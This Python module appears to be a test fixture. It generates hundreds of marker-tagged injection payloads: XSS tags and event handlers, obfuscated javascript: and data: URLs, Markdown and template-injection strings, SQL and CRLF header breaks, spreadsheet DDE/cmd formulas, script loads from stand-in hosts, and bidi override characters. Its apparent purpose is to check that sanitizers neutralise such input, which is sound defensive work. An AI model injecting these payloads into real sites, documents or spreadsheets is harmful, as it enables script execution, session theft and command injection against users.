"""Texts that want to be more than text, of our own making; each bears a word by which it is known wherever it is shown.

`WORD` stands for what the text would do, so that whatever becomes of it in a page can be told from what is ours.
"""

WORD = "owned"

ELEMENTS = (
    *(
        "<script>{}</script>",
        "<script src=//{}.example></script>",
        "<SCRIPT>{}</SCRIPT>",
        "<scr<script>ipt>{}</script>",
    ),
    *("<script\n>{}</script\n>", "<script/{}>1</script>", "<<script>{}//<</script>", "<script>{}"),
    *("<style>@import '{}'</style>", "<link rel=stylesheet href={}>", "<base href=//{}.example>", "<meta {}>"),
    *("<meta http-equiv=refresh content='0;url={}'>", "<iframe src={}></iframe>", "<iframe srcdoc='<b {}>'>"),
    *("<frameset><frame src={}>", "<object data={}></object>", "<embed src={}>", "<applet code={}>", "<portal src={}>"),
    *("<form action={}><button>Go</button></form>", "<input name={} autofocus>", "<button formaction={}>Go</button>"),
    *(
        "<template><b {}></b></template>",
        "<noscript><p title='</noscript><b {}>'>",
        "<plaintext>{}",
        "<xmp><b {}></xmp>",
    ),
    *(
        "<dialog open>{}</dialog>",
        "<slot name={}></slot>",
        "<{0}-made-up>{0}</{0}-made-up>",
        "<a id={0} name={0}>x</a>",
    ),
    *("<img src=https://{}.example/x.png>", "<img srcset='{} 1x'>", "<picture><source srcset={}></picture>"),
    *("<table background={}><tr><td>x</table>", "<isindex action={}>", "<keygen {}>", "<?{}?>", "<![CDATA[<b {}>]]>"),
    *(
        "<!-- {} -->",
        "<!--><b {}>-->",
        "<!DOCTYPE {}>",
        "</p></div></main><b {}>",
        "<p\x0b{}>",
        "<b\xa0{}>",
        "<a href {}>",
    ),
)
HANDLERS = (
    *("<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src=x\nonerror\n=\n{}>", "<IMG SRC=x OnErRoR={}>"),
    *(
        '<img src="x` `<b {}>"` `>',
        "<body onload={}>",
        "<svg onload={}>",
        "<svg/onload={}>",
        "<svg><animate onbegin={}>",
    ),
    *("<details open ontoggle={}>x</details>", "<video><source onerror={}></video>", "<audio src onerror={}>"),
    *("<input onfocus={} autofocus>", "<select onfocus={} autofocus>", "<textarea onfocus={} autofocus>"),
    *("<marquee onstart={}>", "<b onclick={}>x</b>", "<b onpointerrawupdate={}>x</b>", "<b style=--x:{}>x</b>"),
    *("<div onbeforetoggle={} popover>", "<p onanimationend={}>", "<b onfuture={}>x</b>", "<object onerror={}>"),
)
DRAWINGS = (
    *("<svg><script>{}</script></svg>", "<svg><script href={} /></svg>", "<svg><a xlink:href={}>x</a></svg>"),
    *("<svg><use href='data:image/svg+xml,{}#x'/></svg>", "<svg><foreignObject><b {}></foreignObject></svg>"),
    *(
        "<svg><set attributeName=href to={}></svg>",
        "<svg><style>*{{x:{}}}</style></svg>",
        "<svg><title><b {}></title></svg>",
    ),
    *("<math><mtext><b {}></mtext></math>", "<math href={}>x</math>", "<svg><image href={}></svg>"),
    *("<math><mi><mglyph><style><img title='</style><b {}>'>", "<svg></p><style><a title='</style><b {}>'>"),
)
ADDRESSES = (
    *("javascript:{}", "JaVaScRiPt:{}", "java\u00adscript:{}"),
    *("javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}"),
    *("&#x6A;avascript:{}", "&#0000106avascript:{}", "java&Tab;script:{}", "java&NewLine;script:{}", "javascript%3A{}"),
    *("//{}.example", "///{}.example", "\\\\{}.example", "https:{}.example", "http://localhost@{}.example"),
    *("data:text/html,<b {}>", "data:text/html;base64,{}", "vbscript:{}", "livescript:{}", "mocha:{}", "jar:{}!/x"),
    *("view-source:{}", "file:///{}", "blob:{}", "filesystem:{}"),
    *("ftp://{}", "ssh://{}", "magnet:?xt={}", "sms:{}", "tel:{}"),
    *("mailto:x?body={}", "intent://{}#Intent;end", "ms-word:ofe|u|{}"),
    *("about:{}", "feed:javascript:{}", "ｊavascript:{}"),
)  # fmt: skip
MARKDOWN = (
    *("![x](https://{}.example/x.png)", "![x][1] [1]: {}"),
    *("<https://{}.example>", "<javascript:{}>", "[x](<javascript:{}>)"),
    *("[x](javascript:{} 'y')", "[x](\\javascript:{})", "[x]: javascript:{}", "`</code><b {}>`", "``` html <b {}>```"),
    *("*<em {}>*", "**</strong><b {}>**", "***_`<b {}>`_***", "\\<b {}\\>", "&lt;b {}&gt;", "&amp;lt;b {}&amp;gt;"),
    *("&#60;b {}&#62;", "&#x3c;b {}&#x3e;", "&LT;b {}&GT;", "＜b {}＞", "﹤b {}﹥", "‹b {}›", "\\u003cb {}\\u003e"),
    *("%3Cb {}%3E", "<b {}", "<b {} //", "&lt{}", "&#{};", "> <b {}>"),
    *("# <b {}>", "| <b {}> |", "[^1]: <b {}>", "http://{}.example"),
)  # fmt: skip
TEMPLATES = (
    *("{{{{ {} }}}}", "{{{{7*7}}}}{}", "{{% print {} %}}", "{{# {} #}}"),
    *("${{{}}}", "#{{{}}}", "<%= {} %>", "{{{}}}", "{{0.{}}}"),
    *("%({})s", "%s{}%n", "{{{{constructor.constructor('{}')()}}}}"),
    *("[[{}]]", "@({})", "*{{{}}}", "~{{{}}}", "__import__('{}')"),
    *("{{{{c1::{}}}}}", "{{{{#{0}}}}}x{{{{/{0}}}}}", "{{{{FrontSide}}}}{}"),
    *("[sound:{}.mp3]", "[latex]\\input{{{}}}[/latex]"),
    *("[anki:tts]{}[/anki:tts]", "\\( \\href{{{}}}{{x}} \\)"),
    *("$(({}))", "`{}`", "$({})", "; {} --", "' OR {}='", "|{}"),
)  # fmt: skip
BREAKS = (
    *('"><b {}>', "'><b {}>", '" {}="', "' {}='", "` {}=`", '" autofocus onfocus={} "', "</title><b {}>", "--><b {}>"),
    *("</textarea><b {}>", "</script><b {}>", "</style><b {}>", "</option></select><b {}>", "</noscript><b {}>"),
    *('"}}; {} //', "'); {} //", "\\'); {} //", '\\"}}{} //', "]]><b {}>", "%0d%0aSet-Cookie: {}=1", "*/{}/*", "//{}"),
    *("=1+1+{}", "+1+{}", "-1-{}", "@{}", "＝1+{}", "=HYPERLINK('{}')", "=cmd|' /C {}'!A0", "DDE('{}')"),
)
SHAPES = ELEMENTS + HANDLERS + DRAWINGS + ADDRESSES + MARKDOWN + TEMPLATES + BREAKS
# Each address is a payload thrice: by itself, in an element, and in Markdown.
ALL = (*SHAPES, *(f"<a href='{one}'>x</a>" for one in ADDRESSES), *(f"[x]({one})" for one in ADDRESSES))
TURNED = tuple(f"{mark}{{}}" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


def named(number: int) -> str:
    """Return the word of a payload."""
    return f"{WORD}{number}z"


PAYLOADS = tuple(shape.format(named(number)) for number, shape in enumerate(ALL))
BIDI = tuple(shape.format(WORD) for shape in TURNED)
